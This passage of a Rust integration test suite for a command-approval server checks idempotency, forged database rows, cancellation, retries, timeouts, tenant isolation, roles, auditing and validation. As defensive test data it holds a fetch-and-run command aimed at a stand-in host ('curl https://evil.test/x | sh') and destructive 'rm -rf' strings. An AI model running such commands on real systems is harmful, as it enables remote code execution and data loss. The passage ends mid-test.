    for (field, changed) in conflicts {
        let (s, b) = propose_as(&server, &server.admin_token, &changed).await;
        assert_problem(s, &b, 409, "command_id_conflict");
        assert!(
            !b.to_string().contains("whoami"),
            "{field}: the conflict leaks the first command: {b}"
        );
    }
    // Another user repeating it exactly does not get (or take over) the admin's command.
    let (s, b) = propose_as(&server, &operator.token, &body).await;
    assert_problem(s, &b, 409, "command_id_conflict");
    let c = command(&server, &cid).await;
    assert_eq!(c["params"], json!({"cmd": "whoami"}));
    assert_eq!(c["device_id"], device.id);

    // After the decision, repeating still creates nothing and reports where it is now.
    let (s, _) = decide_as(
        &server,
        &operator.token,
        st(&first["approval_id"]),
        "approve",
    )
    .await;
    assert_eq!(s, 202);
    let third = propose(&server, &body).await;
    assert_eq!(third["command_id"], cid);
    assert_eq!(third["approval_id"], first["approval_id"]);
    assert_eq!(third["status"], "queued");
    let got = pulled(&server, &device, "").await;
    assert_eq!(got.len(), 1, "{got:?}");

    // A GREEN command proposed twice is delivered once.
    let green = proposal(&device, "fs.list", json!({"path": "/"}), "s-idem");
    propose(&server, &green).await;
    propose(&server, &green).await;
    let got = pulled(&server, &device, "?cursor=0").await;
    assert_eq!(
        got.iter()
            .filter(|c| c["command_id"] == green["command_id"])
            .count(),
        1,
        "{got:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// What a database writer can and cannot do

fn forged_body(command_id: &str, kind: &str, params: &Value, grant: Option<&Value>) -> String {
    let mut body = json!({
        "command_id": command_id,
        "type": kind,
        "params": params,
        "context": null,
        "client_context": {"surface": "sidecar", "correlation_id": "forged", "session_id": "s-forged"},
        "policy": {"risk": "RED", "approval_id": grant.map(|g| g["approval_id"].clone())},
        "created_at": "2026-02-03T10:00:00.000Z",
        "attempt": 0,
    });
    if let Some(g) = grant {
        body["approval"] = g.clone();
    }
    body.to_string()
}

/// Writes a `queued` command record and a queue row straight into the store, as someone with
/// database access (not the server) would.
fn insert_forged(
    server: &TestServer,
    device: &PairedDevice,
    requested_by: &str,
    id: &str,
    kind: &str,
    params: &Value,
    body: &str,
) {
    let now = unix_now() * 1000;
    let tenant = format!("{ORG}:{PROJECT}");
    let record = format!(
        "INSERT INTO command_records (tenant, id, device_id, type, params, risk, status, session_id, \
         correlation_id, requested_by, requested_at, request_hash, approval_id, replaces, attempt, \
         updated_at, deadline, result) VALUES ('{tenant}', '{id}', '{dev}', '{kind}', '{params}', 'RED', \
         'queued', 's-forged', 'forged', '{requested_by}', {now}, 'forged', NULL, NULL, 0, {now}, NULL, NULL);",
        dev = device.id,
    );
    let queue = if backend_is_postgres() {
        format!(
            "INSERT INTO command_queues (tenant, device_id, last_seq) VALUES ('{tenant}', '{dev}', 1) \
             ON CONFLICT (tenant, device_id) DO UPDATE SET last_seq = command_queues.last_seq + 1; \
             INSERT INTO commands (tenant, device_id, seq, id, body, created_at) VALUES ('{tenant}', '{dev}', \
             (SELECT last_seq FROM command_queues WHERE tenant = '{tenant}' AND device_id = '{dev}'), \
             '{id}', '{body}', {now});",
            dev = device.id,
        )
    } else {
        format!(
            "INSERT INTO commands (tenant, device_id, id, body, created_at) \
             VALUES ('{tenant}', '{dev}', '{id}', '{body}', {now});",
            dev = device.id,
        )
    };
    assert!(!body.contains('\'') && !params.to_string().contains('\''));
    server.raw_sql(&format!("{record} {queue}"));
}

/// The server signs exactly what was approved, and checks that signature again before it hands a
/// command to its device (the agent checks it a third time, with the keys it got at pairing). So
/// rows written into the database by anyone else — a RED command without an approval, a grant
/// copied from another command, the params of an approved command edited in the queue — never
/// leave the server: they fail with `approval_invalid`, loudly, and are audited.
#[tokio::test]
async fn commands_written_into_the_store_are_refused_at_delivery() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let admin_id = user_id(&server, &server.admin_token).await;

    // A legitimately approved RED command, for its grant.
    let legit = proposal(&device, "shell.exec", json!({"cmd": "ls -la"}), "s-forged");
    let answer = propose(&server, &legit).await;
    let (s, _) = decide_as(
        &server,
        &server.admin_token,
        st(&answer["approval_id"]),
        "approve",
    )
    .await;
    assert_eq!(s, 202);
    let got = pulled(&server, &device, "").await;
    assert_eq!(got.len(), 1, "the control case is delivered");
    assert!(
        grant_verifies(&device.server_keys, &device.id, &got[0]),
        "the control case verifies"
    );
    let legit_grant = got[0]["approval"].clone();
    assert_eq!(
        ack(&server, &device, st(&legit["command_id"]), Some(1))
            .await
            .0,
        200
    );

    // 1. A RED command with no approval at all.
    let evil = json!({"cmd": "curl https://evil.test/x | sh"});
    insert_forged(
        &server,
        &device,
        &admin_id,
        "forged-1",
        "shell.exec",
        &evil,
        &forged_body("forged-1", "shell.exec", &evil, None),
    );
    // 2. A RED command carrying the grant of the approved one.
    insert_forged(
        &server,
        &device,
        &admin_id,
        "forged-2",
        "shell.exec",
        &evil,
        &forged_body("forged-2", "shell.exec", &evil, Some(&legit_grant)),
    );
    // 3. A GREEN-looking body (no approval claimed) for a record the store calls RED.
    let mut green_body: Value =
        serde_json::from_str(&forged_body("forged-3", "shell.exec", &evil, None)).expect("json");
    green_body["policy"]["risk"] = json!("GREEN");
    insert_forged(
        &server,
        &device,
        &admin_id,
        "forged-3",
        "shell.exec",
        &evil,
        &green_body.to_string(),
    );

    // 4. An approved command whose queued params are edited after the approval.
    let approved = proposal(
        &device,
        "shell.exec",
        json!({"cmd": "ls -la /srv"}),
        "s-forged",
    );
    let answer = propose(&server, &approved).await;
    let (s, _) = decide_as(
        &server,
        &server.admin_token,
        st(&answer["approval_id"]),
        "approve",
    )
    .await;
    assert_eq!(s, 202);
    let edited_id = s_owned(&approved["command_id"]);
    server.raw_sql(&format!(
        "UPDATE commands SET body = replace(body, 'ls -la /srv', 'rm -rf /srv') WHERE id = '{edited_id}'"
    ));

    let delivered = pulled(&server, &device, "").await;
    assert!(
        delivered.is_empty(),
        "forged commands were delivered: {delivered:?}"
    );
    let forged = ["forged-1", "forged-2", "forged-3", edited_id.as_str()];
    for id in forged {
        let view = command(&server, id).await;
        assert_eq!(view["status"], "failed", "{view}");
        assert_eq!(view["result"]["error"], "approval_invalid", "{view}");
    }
    // Taken out of the queue for good: not delivered on a later pull either.
    assert!(pulled(&server, &device, "?cursor=0").await.is_empty());

    let refused: Vec<Value> = server
        .audit_entries()
        .await
        .into_iter()
        .filter(|e| e["action"] == "command.delivery_refused")
        .collect();
    assert_eq!(refused.len(), forged.len(), "{refused:?}");
    for entry in &refused {
        assert_eq!(entry["result"], "denied", "{entry}");
        assert_eq!(entry["details"]["error"], "approval_invalid", "{entry}");
        assert_eq!(entry["actor"]["type"], "system", "{entry}");
    }
    let logs = server.log_text();
    assert_eq!(
        logs.matches("refusing to deliver a command whose approval grant does not verify")
            .count(),
        forged.len(),
        "{logs}"
    );
}

// ---------------------------------------------------------------------------------------------
// Cancel, attempts, timeouts

#[tokio::test]
async fn cancel_works_only_before_delivery() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let mut stream = watch(&server, "s-cancel").await;

    let body = proposal(&device, "fs.read", json!({"path": "/a"}), "s-cancel");
    propose(&server, &body).await;
    let cid = s_owned(&body["command_id"]);
    let (s, cancelled) = cancel_as(&server, &server.admin_token, &cid).await;
    assert_eq!(s, 202, "{cancelled}");
    assert_eq!(cancelled["status"], "cancelled");
    assert_eq!(cancelled["command_id"], cid);
    assert!(
        pulled(&server, &device, "?wait=1").await.is_empty(),
        "a cancelled command is not delivered"
    );
    let (s, b) = cancel_as(&server, &server.admin_token, &cid).await;
    assert_problem(s, &b, 409, "command_not_cancellable");
    assert_eq!(
        statuses(&status_reports(&mut stream, &cid, 2).await),
        ["queued", "cancelled"]
    );

    let body = proposal(&device, "fs.read", json!({"path": "/b"}), "s-cancel");
    propose(&server, &body).await;
    assert_eq!(pulled(&server, &device, "").await.len(), 1);
    let (s, b) = cancel_as(&server, &server.admin_token, st(&body["command_id"])).await;
    assert_problem(s, &b, 409, "command_not_cancellable");
    assert_eq!(
        command(&server, st(&body["command_id"])).await["status"],
        "delivered"
    );

    let body = proposal(&device, "shell.exec", json!({"cmd": "x"}), "s-cancel");
    let answer = propose(&server, &body).await;
    let (s, b) = cancel_as(&server, &server.admin_token, st(&body["command_id"])).await;
    assert_problem(s, &b, 409, "deny_instead");
    assert_eq!(
        approval(&server, st(&answer["approval_id"])).await["status"],
        "pending"
    );

    // An approved command that is queued can still be cancelled; its grant never reaches the device.
    let (s, _) = decide_as(
        &server,
        &server.admin_token,
        st(&answer["approval_id"]),
        "approve",
    )
    .await;
    assert_eq!(s, 202);
    let (s, b) = cancel_as(&server, &server.admin_token, st(&body["command_id"])).await;
    assert_eq!(s, 202, "{b}");
    assert!(
        pulled(&server, &device, "?cursor=0")
            .await
            .iter()
            .all(|c| c["command_id"] != body["command_id"])
    );

    let (s, b) = cancel_as(&server, &server.admin_token, "no-such-command").await;
    assert_problem(s, &b, 404, "command_not_found");
}

#[tokio::test]
async fn a_cancel_racing_a_delivery_never_both_wins() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    for round in 0..10 {
        let body = proposal(&device, "fs.read", json!({"round": round}), "s-race-cancel");
        propose(&server, &body).await;
        let cid = s_owned(&body["command_id"]);
        let (cancel, got) = tokio::join!(
            cancel_as(&server, &server.admin_token, &cid),
            pulled(&server, &device, "?cursor=0")
        );
        let delivered = got.iter().any(|c| c["command_id"] == cid.as_str());
        let status = command(&server, &cid).await["status"].clone();
        match cancel.0 {
            202 => {
                assert!(!delivered, "round {round}: cancelled AND delivered");
                assert_eq!(status, "cancelled");
            }
            409 => {
                assert!(
                    delivered,
                    "round {round}: neither cancelled nor delivered: {cancel:?}"
                );
                assert_eq!(status, "delivered");
                assert_eq!(ack(&server, &device, &cid, Some(1)).await.0, 200);
            }
            other => panic!("round {round}: cancel answered {other}: {:?}", cancel.1),
        }
    }
}

#[tokio::test]
async fn redelivery_counts_attempts_and_only_the_latest_can_be_acked() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let other = server.pair_device("other-pc").await;
    let mut stream = watch(&server, "s-attempts").await;
    let body = proposal(&device, "fs.read", json!({"path": "/x"}), "s-attempts");
    propose(&server, &body).await;
    let cid = s_owned(&body["command_id"]);

    let first = pulled(&server, &device, "").await;
    assert_eq!(first[0]["attempt"], 1);
    let second = pulled(&server, &device, "?cursor=0").await;
    assert_eq!(second.len(), 1);
    assert_eq!(second[0]["attempt"], 2, "a pull without ack delivers again");
    assert_eq!(command(&server, &cid).await["attempt"], 2);

    let (s, b) = ack(&server, &device, &cid, Some(1)).await;
    assert_problem(s, &b, 409, "stale_attempt");
    let (s, b) = ack(&server, &device, &cid, None).await;
    assert_problem(s, &b, 409, "stale_attempt");
    let (s, b) = ack(&server, &device, &cid, Some(3)).await;
    assert_problem(s, &b, 404, "command_not_found");
    let (s, b) = ack(&server, &other, &cid, Some(2)).await;
    assert_problem(s, &b, 404, "command_not_found");
    assert_eq!(command(&server, &cid).await["status"], "delivered");

    assert_eq!(
        ack(&server, &device, &cid, Some(2)).await,
        (200, json!({"ok": true}))
    );
    assert_eq!(
        ack(&server, &device, &cid, Some(2)).await.0,
        200,
        "acking twice is harmless"
    );
    let (s, b) = ack(&server, &device, &cid, Some(1)).await;
    assert_problem(s, &b, 409, "stale_attempt");
    assert!(pulled(&server, &device, "?cursor=0").await.is_empty());

    // Another device of the tenant cannot finish it; its owner can, once.
    server
        .push(&other, vec![result_report("s-attempts", &cid, "not-mine")])
        .await;
    assert_eq!(command(&server, &cid).await["status"], "acked");
    let mut failed = result_report("s-attempts", &cid, "it-failed");
    failed["blocked"] = json!([{"title": "no such file", "why": "ENOENT", "needs": "a path"}]);
    server.push(&device, vec![failed]).await;
    let c = wait_status(&server, &cid, "failed", WAIT).await;
    assert_eq!(c["result"]["report_id"], "it-failed");
    server
        .push(
            &device,
            vec![result_report("s-attempts", &cid, "late-success")],
        )
        .await;
    assert_eq!(
        command(&server, &cid).await["status"],
        "failed",
        "a finished command stays finished"
    );

    let reports = status_reports(&mut stream, &cid, 5).await;
    assert_eq!(
        statuses(&reports),
        ["queued", "delivered", "delivered", "acked", "failed"]
    );
    assert_eq!(reports[1]["command"]["attempt"], 1);
    assert_eq!(reports[2]["command"]["attempt"], 2);

    // `causality.type: command.failed` fails a command too; a report before delivery changes nothing.
    let body = proposal(&device, "fs.read", json!({"path": "/y"}), "s-attempts");
    propose(&server, &body).await;
    let cid = s_owned(&body["command_id"]);
    server
        .push(
            &device,
            vec![result_report("s-attempts", &cid, "too-early")],
        )
        .await;
    assert_eq!(command(&server, &cid).await["status"], "queued");
    assert_eq!(pulled(&server, &device, "?cursor=0").await.len(), 1);
    let mut failed = result_report("s-attempts", &cid, "typed-failure");
    failed["meta"]["causality"]["type"] = json!("command.failed");
    server.push(&device, vec![failed]).await;
    wait_status(&server, &cid, "failed", WAIT).await;
}

#[tokio::test]
async fn undelivered_and_unfinished_commands_time_out() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    admin_policy(
        &server,
        json!({"delivery_ttl_secs": 1, "execution_timeout_secs": 1}),
    )
    .await;
    let mut stream = watch(&server, "s-timeout").await;

    let slow = proposal(&device, "fs.read", json!({"path": "/slow"}), "s-timeout");
    propose(&server, &slow).await;
    let slow_id = s_owned(&slow["command_id"]);
    let got = pulled(&server, &device, "").await;
    assert_eq!(got.len(), 1);
    let run_before =
        chrono::DateTime::parse_from_rfc3339(st(&got[0]["run_before"])).expect("rfc3339");
    assert!(
        run_before < chrono::Utc::now() + chrono::Duration::seconds(2),
        "the device is told the execution deadline: {}",
        got[0]
    );
    let never = proposal(&device, "fs.read", json!({"path": "/never"}), "s-timeout");
    propose(&server, &never).await;
    let never_id = s_owned(&never["command_id"]);

    wait_status(
        &server,
        &never_id,
        "delivery_timed_out",
        Duration::from_secs(6),
    )
    .await;
    let c = wait_status(
        &server,
        &slow_id,
        "execution_timed_out",
        Duration::from_secs(6),
    )
    .await;
    assert!(c["deadline"].is_null(), "{c}");
    // Neither is handed out any more, a late ack is refused and a late result changes nothing.
    assert!(pulled(&server, &device, "?cursor=0").await.is_empty());
    let (s, b) = ack(&server, &device, &slow_id, Some(1)).await;
    assert_problem(s, &b, 409, "command_ended");
    server
        .push(
            &device,
            vec![result_report("s-timeout", &slow_id, "too-late")],
        )
        .await;
    assert_eq!(
        command(&server, &slow_id).await["status"],
        "execution_timed_out"
    );

    let mut seen = std::collections::HashMap::<String, Vec<String>>::new();
    while seen.get(&slow_id).map_or(0, Vec::len) < 3 || seen.get(&never_id).map_or(0, Vec::len) < 2
    {
        let event = stream.next_data(WAIT).await.expect("stream");
        let r = event.json();
        if event.event == "report" && r["command"].is_object() {
            seen.entry(s_owned(&r["command"]["command_id"]))
                .or_default()
                .push(s_owned(&r["command"]["status"]));
        }
    }
    assert_eq!(
        seen[&slow_id],
        ["queued", "delivered", "execution_timed_out"]
    );
    assert_eq!(seen[&never_id], ["queued", "delivery_timed_out"]);

    // Timed-out commands can be proposed again.
    let (s, again) =
        send(server.web(Method::POST, &format!("/commands/{never_id}/repropose"))).await;
    assert_eq!(s, 202, "{again}");
    assert_eq!(again["status"], "queued");
    assert_eq!(
        command(&server, st(&again["command_id"])).await["replaces"],
        never_id.as_str()
    );
}

// ---------------------------------------------------------------------------------------------
// Tenants and roles

#[tokio::test]
async fn another_tenant_cannot_see_decide_or_target_anything() {
    let server = TestServer::start().await;
    let device = server.pair_device("acme-pc").await;
    server.ensure_tenant("other", "proj").await;
    let eve = server.new_member("other", "eve@other.test", "admin").await;
    let eve_device = server.pair_device_in("eve-pc", "other", "proj").await;

    let red = proposal(
        &device,
        "shell.exec",
        json!({"cmd": "cat /etc/secret-plan"}),
        "s-iso",
    );
    let answer = propose(&server, &red).await;
    let (red_id, approval_id) = (s_owned(&red["command_id"]), s_owned(&answer["approval_id"]));
    let green = proposal(&device, "fs.read", json!({"path": "/secret-plan"}), "s-iso");
    propose(&server, &green).await;
    let green_id = s_owned(&green["command_id"]);

    let as_eve = |method: Method, path: &str, org: &str, project: &str| {
        server.as_user_in(&eve.token, method, path, org, project)
    };
    for (org, project, command_code, approval_code) in [
        ("other", "proj", "command_not_found", "approval_not_found"),
        (ORG, PROJECT, "tenant_not_found", "tenant_not_found"),
    ] {
        let requests: Vec<(&str, reqwest::RequestBuilder, &str)> = vec![
            (
                "get command",
                as_eve(Method::GET, &format!("/commands/{red_id}"), org, project),
                command_code,
            ),
            (
                "get approval",
                as_eve(
                    Method::GET,
                    &format!("/approvals/{approval_id}"),
                    org,
                    project,
                ),
                approval_code,
            ),
            (
                "decide",
                as_eve(
                    Method::POST,
                    &format!("/approvals/{approval_id}/decide"),
                    org,
                    project,
                )
                .json(&json!({"decision": "approve"})),
                approval_code,
            ),
            (
                "cancel",
                as_eve(
                    Method::POST,
                    &format!("/commands/{green_id}/cancel"),
                    org,
                    project,
                ),
                command_code,
            ),
            (
                "repropose",
                as_eve(
                    Method::POST,
                    &format!("/commands/{red_id}/repropose"),
                    org,
                    project,
                ),
                command_code,
            ),
        ];
        for (what, request, code) in requests {
            let (s, b) = send(request).await;
            assert_problem(s, &b, 404, code);
            assert!(!b.to_string().contains("secret-plan"), "{what} leaks: {b}");
        }
    }
    for path in [
        "/commands",
        "/approvals",
        "/commands?status=pending_approval",
    ] {
        let (s, b) = send(as_eve(Method::GET, path, "other", "proj")).await;
        assert_eq!(s, 200, "{b}");
        assert!(
            !b.to_string().contains("secret-plan") && !b.to_string().contains(&device.id),
            "{path}: {b}"
        );
    }
    // Eve cannot target acme's device from her tenant.
    let mut aimed = proposal(&device, "fs.read", json!({}), "s-iso");
    aimed["device_id"] = json!(device.id);
    let (s, b) = send(as_eve(Method::POST, "/sidecar/command", "other", "proj").json(&aimed)).await;
    assert_problem(s, &b, 404, "device_not_found");
    // Reusing acme's command id in her tenant is her own new command, not acme's answer.
    let mut reused = proposal(&eve_device, "shell.exec", json!({"cmd": "id"}), "s-iso");
    reused["command_id"] = json!(red_id);
    let (s, hers) =
        send(as_eve(Method::POST, "/sidecar/command", "other", "proj").json(&reused)).await;
    assert_eq!(s, 202, "{hers}");
    assert_ne!(hers["approval_id"], approval_id.as_str());
    assert_ne!(hers["correlation_id"], answer["correlation_id"]);
    // Her devices cannot finish acme's commands, nor see them.
    assert!(pulled(&server, &eve_device, "?cursor=0").await.is_empty());
    assert_eq!(
        pulled(&server, &device, "").await.len(),
        1,
        "acme's device gets its GREEN command"
    );
    server
        .push(
            &eve_device,
            vec![result_report("s-iso", &green_id, "eve-result")],
        )
        .await;
    assert_eq!(command(&server, &green_id).await["status"], "delivered");
    let c = command(&server, &red_id).await;
    assert_eq!(c["status"], "pending_approval");
    assert_eq!(c["device_id"], device.id);
    assert_eq!(approval(&server, &approval_id).await["status"], "pending");

    // Another project of the same organization is another tenant too.
    server.ensure_tenant(ORG, "side").await;
    let (s, b) =
        send(server.web_in(Method::GET, &format!("/commands/{red_id}"), ORG, "side")).await;
    assert_problem(s, &b, 404, "command_not_found");
    let (s, b) = send(
        server
            .web_in(
                Method::POST,
                &format!("/approvals/{approval_id}/decide"),
                ORG,
                "side",
            )
            .json(&json!({"decision": "approve"})),
    )
    .await;
    assert_problem(s, &b, 404, "approval_not_found");
    assert_eq!(approval(&server, &approval_id).await["status"], "pending");
}

#[tokio::test]
async fn roles_viewers_read_operators_propose_and_decide_admins_set_the_policy() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let viewer = server.new_member(ORG, "vic@nexus.test", "viewer").await;
    let operator = server.new_member(ORG, "opal@nexus.test", "operator").await;

    let body = proposal(&device, "shell.exec", json!({"cmd": "date"}), "s-roles");
    let answer = propose(&server, &body).await;
    let (cid, approval_id) = (
        s_owned(&body["command_id"]),
        s_owned(&answer["approval_id"]),
    );
    let green = proposal(&device, "fs.read", json!({}), "s-roles");
    propose(&server, &green).await;

    // Viewer: reads everything, changes nothing.
    for path in [
        "/commands".to_owned(),
        format!("/commands/{cid}"),
        "/approvals".to_owned(),
        format!("/approvals/{approval_id}"),
        "/policy".to_owned(),
    ] {
        let (s, b) = get_as(&server, &viewer.token, &path).await;
        assert_eq!(s, 200, "viewer GET {path}: {b}");
    }
    let refused: Vec<reqwest::RequestBuilder> = vec![
        server
            .as_user(&viewer.token, Method::POST, "/sidecar/command")
            .json(&proposal(&device, "fs.read", json!({}), "s-roles")),
        server
            .as_user(
                &viewer.token,
                Method::POST,
                &format!("/approvals/{approval_id}/decide"),
            )
            .json(&json!({"decision": "approve"})),
        server.as_user(
            &viewer.token,
            Method::POST,
            &format!("/commands/{}/cancel", st(&green["command_id"])),
        ),
        server.as_user(
            &viewer.token,
            Method::POST,
            &format!("/commands/{cid}/repropose"),
        ),
        server
            .as_user(&viewer.token, Method::PUT, "/policy")
            .json(&json!({"rules": [], "approval_ttl_secs": 5})),
    ];
    for request in refused {
        let (s, b) = send(request).await;
        assert_problem(s, &b, 403, "permission_denied");
    }
    assert_eq!(approval(&server, &approval_id).await["status"], "pending");
    assert_eq!(
        command(&server, st(&green["command_id"])).await["status"],
        "queued"
    );
    let (_, list) = get_as(&server, &server.admin_token, "/commands").await;
    assert_eq!(
        list["commands"].as_array().expect("list").len(),
        2,
        "the viewer created nothing"
    );

    // Operator: proposes and decides, but cannot change the policy.
    let (s, b) = propose_as(
        &server,
        &operator.token,
        &proposal(&device, "fs.read", json!({}), "s-roles"),
    )
    .await;
    assert_eq!(s, 202, "{b}");
    let (s, b) = decide_as(&server, &operator.token, &approval_id, "approve").await;
    assert_eq!(s, 202, "{b}");
    let (s, b) = set_policy(
        &server,
        &operator.token,
        json!({"rules": [{"pattern": "shell.*", "risk": "GREEN"}]}),
    )
    .await;
    assert_problem(s, &b, 403, "permission_denied");
    let (_, policy) = get_as(&server, &operator.token, "/policy").await;
    assert!(!policy.to_string().contains("shell.*"), "{policy}");
    let probe = proposal(
        &device,
        "shell.exec",
        json!({"cmd": "still red"}),
        "s-roles",
    );
    assert_eq!(propose(&server, &probe).await["risk"], "red");

    // Admin: may, and the new table applies to the next proposal.
    admin_policy(
        &server,
        json!({"rules": [{"pattern": "shell.*", "risk": "GREEN"}]}),
    )
    .await;
    let probe = proposal(
        &device,
        "shell.exec",
        json!({"cmd": "now green"}),
        "s-roles",
    );
    let answer = propose(&server, &probe).await;
    assert_eq!(answer["risk"], "green");
    assert_eq!(answer["status"], "queued");
    // Anything the table does not name is RED.
    let probe = proposal(&device, "fs.read", json!({}), "s-roles");
    assert_eq!(
        propose(&server, &probe).await["risk"],
        "red",
        "fs.read is no longer in the table"
    );
}

// ---------------------------------------------------------------------------------------------
// Audit, validation, listing

#[tokio::test]
async fn every_step_is_audited_with_its_actor_and_correlation_id() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let operator = server.new_member(ORG, "aud@nexus.test", "operator").await;
    let admin_id = user_id(&server, &server.admin_token).await;
    admin_policy(&server, json!({"approval_ttl_secs": 120})).await;

    // Approved, delivered, acked, succeeded.
    let mut body = proposal(&device, "shell.exec", json!({"cmd": "make"}), "s-audit");
    body["client_context"] = json!({"correlation_id": "corr-audit-1"});
    let (s, answer) = send(
        server
            .web(Method::POST, "/sidecar/command")
            .header("x-correlation-id", "corr-audit-1")
            .json(&body),
    )
    .await;
    assert_eq!(s, 202, "{answer}");
    let ok_id = s_owned(&body["command_id"]);
    let (s, _) = send(
        server
            .as_user(
                &operator.token,
                Method::POST,
                &format!("/approvals/{}/decide", st(&answer["approval_id"])),
            )
            .header("x-correlation-id", "corr-audit-2")
            .json(&json!({"decision": "approve"})),
    )
    .await;
    assert_eq!(s, 202);
    assert_eq!(pulled(&server, &device, "").await.len(), 1);
    assert_eq!(ack(&server, &device, &ok_id, Some(1)).await.0, 200);
    server
        .push(&device, vec![result_report("s-audit", &ok_id, "ok")])
        .await;
    wait_status(&server, &ok_id, "succeeded", WAIT).await;
    // Denied.
    let denied = proposal(&device, "shell.exec", json!({"cmd": "rm"}), "s-audit");
    let answer = propose(&server, &denied).await;
    let (s, _) = decide_as(&server, &operator.token, st(&answer["approval_id"]), "deny").await;
    assert_eq!(s, 202);
    // Failed.
    let failing = proposal(&device, "fs.read", json!({"path": "/missing"}), "s-audit");
    propose(&server, &failing).await;
    let failing_id = s_owned(&failing["command_id"]);
    assert_eq!(pulled(&server, &device, "?cursor=0").await.len(), 1);
    let mut failed = result_report("s-audit", &failing_id, "failed");
    failed["meta"]["causality"]["type"] = json!("command.failed");
    server.push(&device, vec![failed]).await;
    wait_status(&server, &failing_id, "failed", WAIT).await;
    // Cancelled.
    let cancelled = proposal(&device, "fs.read", json!({}), "s-audit");
    propose(&server, &cancelled).await;
    assert_eq!(
        cancel_as(&server, &operator.token, st(&cancelled["command_id"]))
            .await
            .0,
        202
    );

    let entries = server.audit_entries().await;
    let find = |action: &str, target: &str| -> Value {
        entries
            .iter()
            .find(|e| e["action"] == action && e["target"]["id"] == target)
            .unwrap_or_else(|| panic!("no {action} for {target} in {entries:#?}"))
            .clone()
    };
    let user = |id: &str| json!({"type": "user", "id": id});
    let device_actor = json!({"type": "device", "id": device.id});
    let checks = [
        (
            "command.propose",
            ok_id.as_str(),
            user(&admin_id),
            Some("corr-audit-1"),
        ),
        (
            "approval.approve",
            ok_id.as_str(),
            user(&operator.id),
            Some("corr-audit-2"),
        ),
        ("command.ack", ok_id.as_str(), device_actor.clone(), None),
        (
            "command.succeeded",
            ok_id.as_str(),
            device_actor.clone(),
            None,
        ),
        (
            "command.propose",
            st(&denied["command_id"]),
            user(&admin_id),
            None,
        ),
        (
            "approval.deny",
            st(&denied["command_id"]),
            user(&operator.id),
            None,
        ),
        (
            "command.failed",
            failing_id.as_str(),
            device_actor.clone(),
            None,
        ),
        (
            "command.cancel",
            st(&cancelled["command_id"]),
            user(&operator.id),
            None,
        ),
        ("policy.update", "commands", user(&admin_id), None),
    ];
    for (action, target, actor, correlation) in checks {
        let e = find(action, target);
        assert_eq!(e["actor"], actor, "{e}");
        assert_eq!(e["result"], "success", "{e}");
        assert_eq!(e["tenant_id"], "acme:web", "{e}");
        let got = e["correlation_id"]
            .as_str()
            .unwrap_or_else(|| panic!("{action} has no correlation id: {e}"));
        assert!(!got.is_empty(), "{e}");
        if let Some(expected) = correlation {
            assert_eq!(got, expected, "{e}");
        }
        if action != "policy.update" {
            assert_eq!(e["target"]["type"], "command", "{e}");
        }
    }
    let approve = find("approval.approve", &ok_id);
    assert!(
        approve["details"]["approval_id"]
            .as_str()
            .is_some_and(|a| a.starts_with("apr_")),
        "{approve}"
    );
    assert_eq!(find("command.propose", &ok_id)["details"]["risk"], "red");
    assert_eq!(find("command.ack", &ok_id)["details"]["attempt"], 1);
    assert_eq!(
        find("command.succeeded", &ok_id)["details"]["report_id"],
        "ok"
    );
    let text = serde_json::to_string(&entries).expect("json");
    assert!(
        !text.contains(&device.token),
        "the audit trail holds a device token"
    );

    let (s, filtered) = get_as(
        &server,
        &server.admin_token,
        "/audit/logs?action=command.propose&limit=50",
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(
        filtered["entries"].as_array().expect("entries").len(),
        4,
        "{filtered}"
    );
    let (s, verify) = get_as(&server, &server.admin_token, "/audit/verify").await;
    assert_eq!(s, 200);
    assert_eq!(verify["ok"], true, "{verify}");
}

#[tokio::test]
async fn invalid_requests_are_422_naming_the_field_and_create_nothing() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let base = proposal(&device, "fs.read", json!({"path": "/"}), "s-invalid");
    let cases: Vec<(&str, Value)> = vec![
        ("type", json!("fs read!")),
        ("type", json!("")),
        ("type", json!("x".repeat(65))),
        ("params", json!([1, 2])),
        ("params", json!("rm -rf /")),
        ("params", json!({"blob": "x".repeat(40 * 1024)})),
        ("command_id", json!("has space")),
        ("command_id", json!("")),
        ("command_id", json!("x".repeat(65))),
        ("session_id", json!("no spaces allowed")),
    ];
    for (field, value) in cases {
        let mut body = base.clone();
        body[field] = value;
        let r = server
            .web(Method::POST, "/sidecar/command")
            .json(&body)
            .send()
            .await
            .expect("send");
        assert_eq!(r.headers()["content-type"], "application/problem+json");
        let (s, b) = status_json(r).await;
        assert_problem(s, &b, 422, "validation_failed");
        let fields: Vec<&str> = b["errors"]
            .as_array()
            .expect("errors")
            .iter()
            .map(|e| st(&e["field"]))
            .collect();
        assert!(fields.contains(&field), "{field}: {b}");
    }
    let mut body = base.clone();
    body["client_context"] = json!({"correlation_id": "bad id with spaces"});
    let (s, b) = propose_as(&server, &server.admin_token, &body).await;
    assert_problem(s, &b, 422, "validation_failed");
    assert_eq!(
        b["errors"][0]["field"], "client_context.correlation_id",
        "{b}"
    );
    for device_id in ["dev_01J00000000000000000000000", "not-a-device"] {
        let mut body = base.clone();
        body["device_id"] = json!(device_id);
        let (s, b) = propose_as(&server, &server.admin_token, &body).await;
        assert_problem(s, &b, 404, "device_not_found");
    }
    let (_, list) = get_as(&server, &server.admin_token, "/commands").await;
    assert_eq!(list["commands"], json!([]), "nothing was created");

    for (path, field) in [
        ("/commands?status=bogus", "status"),
        ("/commands?status=PENDING", "status"),
        ("/commands?limit=0", "limit"),
        ("/commands?limit=201", "limit"),
        ("/commands?cursor=abc", "cursor"),
        ("/approvals?status=approve", "status"),
        ("/approvals?limit=0", "limit"),
    ] {
        let (s, b) = get_as(&server, &server.admin_token, path).await;
        assert_problem(s, &b, 422, "validation_failed");
        assert_eq!(b["errors"][0]["field"], field, "{path}: {b}");
    }

    let body = proposal(&device, "shell.exec", json!({}), "s-invalid");
    let answer = propose(&server, &body).await;
    let approval_id = s_owned(&answer["approval_id"]);
    for decision in ["yes", "APPROVE", "approved", ""] {
        let (s, b) = decide_as(&server, &server.admin_token, &approval_id, decision).await;
